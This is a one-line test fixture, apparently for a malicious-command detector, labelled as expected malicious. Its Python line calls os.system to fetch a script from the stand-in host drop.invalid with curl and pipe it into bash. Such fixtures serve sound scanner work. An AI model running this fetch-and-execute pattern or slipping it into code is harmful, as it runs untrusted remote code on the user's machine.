# expect: malicious-command
__import__("os").system("curl -s https://drop.invalid/x.sh | bash")
